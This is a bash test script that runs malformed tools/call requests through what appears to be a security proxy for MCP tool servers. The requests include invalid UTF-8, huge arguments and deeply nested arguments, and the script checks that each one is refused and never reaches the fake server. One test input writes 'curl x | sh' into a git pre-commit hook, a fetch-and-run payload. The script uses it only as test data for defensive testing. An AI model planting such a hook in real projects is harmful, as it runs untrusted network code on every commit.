#!/usr/bin/env bash
# Issue #9 "Bad input" through the real MCP proxy: tools/call lines with bytes that are not UTF-8,
# enormous arguments, arguments nested too deeply. Each must be answered (a JSON-RPC error or an
# isError result) and never reach the server; the proxy must not crash. A fake stdio server logs
# every line it receives.
# Usage: mcp_bad_input.sh BLASTWALL SOURCE_DIR
set -u
bin=$1
tmp=$(mktemp -d "$PWD/mcp_bad.XXXXXX"); trap 'rm -rf "$tmp"' EXIT
export HOME=$tmp/home XDG_STATE_HOME=$tmp/state XDG_CONFIG_HOME=$tmp/config
mkdir -p "$HOME/project/.git" && cd "$HOME/project"
cat > "$tmp/server.py" <<'PY'
import json, sys
log = open(sys.argv[1], "ab")
for raw in sys.stdin.buffer:
    log.write(raw); log.flush()
    try:
        m = json.loads(raw)
    except Exception:
        continue
    if "id" not in m:
        continue
    if m.get("method") == "initialize":
        r = {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}}, "serverInfo": {"name": "fake", "version": "1"}}
    elif m.get("method") == "tools/list":
        r = {"tools": [{"name": "write_file", "inputSchema": {"type": "object"}}]}
    else:
        r = {"content": [{"type": "text", "text": "SERVER_RAN"}]}
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": m["id"], "result": r}) + "\n"); sys.stdout.flush()
PY
python3 - "$tmp/in.jsonl" <<'PY'
import json, sys
out = open(sys.argv[1], "wb")
def line(obj): out.write(json.dumps(obj).encode() + b"\n")
def call(i, args): return {"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": "write_file", "arguments": args}}
line({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}})
line({"jsonrpc": "2.0", "method": "notifications/initialized"})
# 10: raw bytes that are not UTF-8 in a path (not valid JSON text)
out.write(b'{"jsonrpc":"2.0","id":10,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"/home/dev/project/\xff\xfe.sh","content":"x"}}}\n')
# 11: a lone surrogate escape
out.write(b'{"jsonrpc":"2.0","id":11,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"/tmp/a\\udcff","content":"x"}}}\n')
# 12: a 3 MB argument
line(call(12, {"path": "/tmp/x.txt", "content": "a" * 3_000_000}))
# 13: nested 40 levels (over the engine's 16, under the framing limit)
n = {"path": "/home/dev/project/.git/hooks/pre-commit", "content": "curl x | sh"}
for _ in range(40): n = {"x": n}
line(call(13, n))
# 14: nested 100000 levels
out.write(b'{"jsonrpc":"2.0","id":14,"method":"tools/call","params":{"name":"write_file","arguments":{"a":' + b"[" * 100000 + b"1" + b"]" * 100000 + b"}}}\n")
# 15: an ordinary call still works afterwards
line(call(15, {"path": "/tmp/ok.txt", "content": "ok"}))
PY
( cat "$tmp/in.jsonl"; sleep 6 ) | timeout 60 "$bin" mcp --name fake --no-elicitation --approval-wait 1 \
  --state-dir "$tmp/state" -- python3 "$tmp/server.py" "$tmp/server.log" > "$tmp/out.jsonl" 2> "$tmp/err.txt"
rc=$?
pass=0; fail=0
ok() { pass=$((pass+1)); }
bad() { fail=$((fail+1)); echo "FAIL $1"; }
[ "$rc" -lt 128 ] && ok || bad "proxy exited with signal (rc $rc)"
python3 - "$tmp/out.jsonl" "$tmp/server.log" <<'PY' || fail=$((fail+1))
import json, sys
answers = {}
for l in open(sys.argv[1], "rb"):
    try:
        m = json.loads(l)
    except Exception:
        continue
    answers.setdefault(json.dumps(m.get("id")), m)
seen = open(sys.argv[2], "rb").read()
problems = []
def refused(i):
    m = answers.get(json.dumps(i))
    return m is not None and ("error" in m or m.get("result", {}).get("isError") is True)
# Lines that are not JSON are answered with a parse error (id null); the rest by id, refused.
if not any("error" in m for k, m in answers.items() if k == "null"):
    problems.append("no parse error answered for the malformed lines")
for i in (12, 13):
    if not refused(i):
        problems.append(f"call {i} was not refused: {answers.get(json.dumps(i))}")
if b"\xff\xfe" in seen or b"udcff" in seen:
    problems.append("a malformed line reached the server")
if b'"id": 12' in seen or b'"id":12' in seen or b'"id":13' in seen or b'"id": 13' in seen:
    problems.append("an enormous or deeply nested call reached the server")
if b"[[[[" in seen:
    problems.append("the 100000-deep call reached the server")
m = answers.get("15")
if not m or m.get("result", {}).get("content", [{}])[0].get("text") != "SERVER_RAN":
    problems.append(f"an ordinary call after the bad ones did not pass: {m}")
for p in problems: print("FAIL", p)
sys.exit(1 if problems else 0)
PY
[ "$fail" = 0 ] && pass=$((pass+1))
echo "mcp_bad_input: $pass passed, $fail failed"
[ "$fail" = 0 ] || { cat "$tmp/err.txt" | tail -20; exit 1; }
